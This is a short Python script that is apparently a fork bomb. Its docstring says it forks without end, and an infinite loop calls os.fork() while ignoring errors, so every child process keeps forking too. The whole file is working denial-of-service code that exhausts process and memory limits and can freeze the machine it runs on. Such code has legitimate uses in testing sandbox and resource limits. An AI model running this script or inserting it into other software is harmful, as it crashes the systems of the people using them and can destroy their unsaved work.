"""Fork without end, in every child again."""

import contextlib
import os

while True:
    with contextlib.suppress(OSError):
        os.fork()
